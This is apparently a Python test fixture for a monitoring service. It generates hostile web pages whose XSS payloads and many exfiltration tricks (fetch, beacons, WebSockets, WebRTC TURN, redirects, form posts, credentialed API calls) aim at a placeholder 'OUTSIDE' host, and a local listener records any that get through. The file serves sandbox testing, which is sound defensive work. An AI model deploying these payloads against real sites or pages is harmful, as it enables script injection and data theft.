"""What attacks the monitor: markup, a deliverable of pages that try to get out, and the outside that they aim at."""

from __future__ import annotations

import socket
import threading

#: It would show itself at once if it were taken for markup, for a template, or for mermaid's language.
MARKUP = (
    "<img src=x onerror=\"document.title='owned'\"><script>document.title='owned'</script>"
    '{{constructor.constructor(\'document.title=1\')()}}"]; click a href "javascript:alert(1)" %%{init: {}}%% '
    "[x](javascript:alert(1)) `b` </pre></textarea><svg onload=document.title='owned'>"
)
#: What a deliverable tries. Each try ends in a word on the page, so that the test knows that it was made.
ATTACK = """<!doctype html><html><head><title>innocent</title>
<link rel="dns-prefetch" href="//OUTSIDE"><link rel="preconnect" href="http://OUTSIDE">
<link rel="prefetch" href="http://OUTSIDE/prefetch"><link rel="stylesheet" href="http://OUTSIDE/style.css">
<link rel="stylesheet" href="style.css"><script src="http://OUTSIDE/script.js"></script>
<style>@import "http://OUTSIDE/import.css"; body { background: url(http://OUTSIDE/pixel) }</style>
<script src="part.js"></script></head><body><pre id=shown></pre>
<img src="http://OUTSIDE/img"><img src="MONITOR/api/runs"><iframe src="MONITOR/monitor"></iframe>
<object data="http://OUTSIDE/object"></object><embed src="http://OUTSIDE/embed"><video poster="http://OUTSIDE/poster" src="http://OUTSIDE/v">
<track src="http://OUTSIDE/track"></video><input type=image src="http://OUTSIDE/input"><img attributionsrc="http://OUTSIDE/attribution" src="data:,">
<link rel=modulepreload href="http://OUTSIDE/module"><link rel=preload as=fetch href="http://OUTSIDE/preload"><link rel=manifest href="http://OUTSIDE/manifest">
<link rel=icon href="http://OUTSIDE/icon"><link rel=prerender href="http://OUTSIDE/prerender">
<script type=speculationrules>{"prefetch": [{"urls": ["http://OUTSIDE/speculated"], "eagerness": "immediate"}],
 "prerender": [{"urls": ["http://OUTSIDE/prerendered"], "eagerness": "immediate"}]}</script>
<a id=a target=_top href="http://OUTSIDE/top">x</a><a id=b ping="http://OUTSIDE/ping" href="#x">x</a>
<a id=d download href="data:text/plain,x">x</a>
<script>
const told = {};
const tell = (name, value) => { told[name] = String(value); shown.textContent = JSON.stringify(told); };
const attempt = (name, act) => { try { tell(name, act()); } catch (error) { tell(name, "refused"); } };
attempt("part", () => window.part);
attempt("origin", () => origin);
attempt("cookie", () => document.cookie);
attempt("parent", () => parent.document.title);
attempt("top", () => top.location.href);
attempt("frames", () => parent.frames.length > 1 && parent.frames[0].document.title);
attempt("navigate", () => { top.location = "http://OUTSIDE/top"; return "tried"; });
attempt("open", () => String(window.open("http://OUTSIDE/open")));
attempt("click", () => { a.click(); b.click(); d.click(); return "tried"; });
attempt("beacon", () => navigator.sendBeacon("http://OUTSIDE/beacon", "x"));
attempt("worker", () => { new Worker("data:text/javascript,fetch('http://OUTSIDE/worker')"); return "tried"; });
attempt("blob", () => { new Worker(URL.createObjectURL(new Blob(["fetch('http://OUTSIDE/blob')"]))); return "tried"; });
attempt("eval", () => eval("1 + 1"));
attempt("image", () => { new Image().src = "http://OUTSIDE/image"; return "tried"; });
attempt("script", () => { const s = document.createElement("script"); s.src = "MONITOR/api/runs"; document.body.append(s); return "tried"; });
attempt("events", () => { new EventSource("MONITOR/api/runs/hostile/events"); return "tried"; });
for (const [name, address] of Object.entries({ outside: "ws://OUTSIDE/", monitor: "WSMONITOR/monitor/_nicegui_ws/socket.io/?EIO=4&transport=websocket" }))
  attempt("socket " + name, () => { const s = new WebSocket(address); s.onopen = () => tell("socket " + name, "open");
    s.onerror = () => tell("socket " + name, "refused"); return "tried"; });
const get = (name, address, options) => fetch(address, options).then((r) => r.text()).then((t) => tell(name, t), () => tell(name, "refused"));
get("fetch outside", "http://OUTSIDE/fetch", { mode: "no-cors" });
get("fetch api", "MONITOR/api/runs", { credentials: "include" });
get("fetch api blind", "MONITOR/api/runs/hostile/stop", { method: "POST", mode: "no-cors", credentials: "include" });
get("fetch token", "MONITOR/monitor", { credentials: "include" });
get("fetch own", "style.css");
get("fetch up", "../../");
attempt("service worker", () => { navigator.serviceWorker.register("part.js").then(
  () => tell("service worker", "there"), () => tell("service worker", "refused")); return "tried"; });
attempt("shared worker", () => { new SharedWorker("http://OUTSIDE/shared"); return "tried"; });
attempt("transport", () => { const t = new WebTransport("https://OUTSIDE/transport");
  t.ready.catch(() => 0); t.closed.catch(() => 0); return "tried"; });
attempt("later", () => { fetchLater("http://OUTSIDE/later", { activateAfter: 0 }); return "tried"; });
attempt("font", () => { new FontFace("x", "url(http://OUTSIDE/font)").load().catch(() => 0); return "tried"; });
attempt("policy", () => { const m = document.createElement("meta"); m.httpEquiv = "Content-Security-Policy";
  m.content = "default-src *; report-uri http://OUTSIDE/report"; document.head.append(m); return "tried"; });
attempt("hints", () => { for (const rel of ["preconnect", "dns-prefetch", "prefetch", "preload", "next"]) {
  const l = document.createElement("link"); l.rel = rel; l.as = "image"; l.href = `http://${rel}.OUTSIDE/late`; document.head.append(l); }
  return "tried"; });
attempt("frame", () => { for (const src of ["data:text/html,<script>fetch('http://OUTSIDE/data')<\\/script>",
  URL.createObjectURL(new Blob(["<script>fetch('http://OUTSIDE/bloburl')<\\/script>"], { type: "text/html" }))]) {
  const f = document.createElement("iframe"); f.src = src; document.body.append(f); } return "tried"; });
attempt("wasm", () => { WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).then(() => tell("wasm", "ran"), () => tell("wasm", "refused")); return "tried"; });
attempt("name", () => window.name);
attempt("history", () => { history.pushState({}, "", "/elsewhere"); return "tried"; });
attempt("referrer", () => document.referrer);
attempt("ancestors", () => [...location.ancestorOrigins].join());
attempt("dialog", () => { alert(1); return String(confirm(1)); });
attempt("clipboard", () => { navigator.clipboard.readText().then((t) => tell("clipboard", t), () => tell("clipboard", "refused")); return "tried"; });
attempt("message", () => { parent.postMessage({ event: "run_javascript", code: "document.title='owned'" }, "*"); return "tried"; });
attempt("call", () => { CALL; return "tried"; });
setTimeout(() => tell("done", "yes"), 1500);
</script></body></html>"""
#: A call, which asks a server of its choice: past the policies of pages, and with words of its own.
CALL = (
    "{ const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:OUTSIDE' }, "
    "{ urls: 'turn:OUTSIDE?transport=tcp', username: 'words', credential: 'x' }] }); "
    "c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o)); }"
)
#: What a page tries that leaves by itself: with nothing but its own address.
LEAVING = """<!doctype html><title>leaving</title><script>location = "http://OUTSIDE/leave?what=the+task"</script>"""
LEAVING_AS_DATA = """<!doctype html><script>location = "data:text/html,<script>fetch('http://OUTSIDE/asdata')<" + "/script>";
</script>"""
LEAVING_AS_BLOB = """<!doctype html><script>location = URL.createObjectURL(
new Blob(["<script>fetch('http://OUTSIDE/asblob')<" + "/script>"], { type: "text/html" }));</script>"""
REFRESHING = """<!doctype html><meta http-equiv=refresh content="0; url=http://OUTSIDE/refresh">"""
SENDING = """<!doctype html><form id=f method=post action="http://OUTSIDE/form"><input name=a value=b></form>
<script>f.submit()</script>"""
#: Windows of their own, in which calls are not taken away.
CALLING = """<!doctype html><iframe srcdoc="<script>CALL</script>"></iframe><iframe src="javascript:CALL"></iframe>
<iframe src="about:blank" onload="try { contentWindow.eval(`CALL`) } catch (e) {}"></iframe>"""
DRAWN = """<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("http://OUTSIDE/svg"); top.location = "http://OUTSIDE/svgtop"</script></svg>"""


def hostile_pages(monitor: str, outside: str) -> dict[str, str]:
    """Return the files of a deliverable that attacks.

    Args:
        monitor: address of the service.
        outside: host and port of what the pages try to reach.
    """

    def aimed(page: str) -> str:
        page = page.replace("CALL", CALL).replace("WSMONITOR", monitor.replace("http", "ws", 1))
        return page.replace("MONITOR", monitor).replace("OUTSIDE", outside)

    pages = {
        "index.html": ATTACK,
        "leaving.html": LEAVING,
        "leaving-as-data.html": LEAVING_AS_DATA,
        "leaving-as-blob.html": LEAVING_AS_BLOB,
        "refreshing.html": REFRESHING,
        "sending.html": SENDING,
        "calling.html": CALLING,
        "drawn.svg": DRAWN,
        "part.js": "window.part = 'loaded';",
        "style.css": "body { color: rgb(1, 2, 3) }",
        "notes.md": f"# Notes\n\n{MARKUP}",
    }
    return {path: aimed(page) for path, page in pages.items()}


class Outside:
    """A listener that notes whoever comes."""

    def __init__(self) -> None:
        self.came: list[bytes] = []
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.place = f"127.0.0.1:{self._socket.getsockname()[1]}"
        # What calls begin with comes as packets, to the same port.
        self._packets = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._packets.bind(self._socket.getsockname())
        for listen in (self._listen, self._take_packets):
            threading.Thread(target=listen, daemon=True).start()

    def _take_packets(self) -> None:
        while True:
            try:
                self.came.append(self._packets.recv(300))
            except OSError:
                return

    def _listen(self) -> None:
        while True:
            try:
                came, _ = self._socket.accept()
            except OSError:
                return
            with came:
                came.settimeout(1)
                try:
                    self.came.append(came.recv(300))
                    came.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
                except OSError:
                    self.came.append(b"")

    def close(self) -> None:
        # A thread that waits is not woken by a close alone.
        self._packets.sendto(b"", self._packets.getsockname())
        self._packets.close()
        self._socket.close()
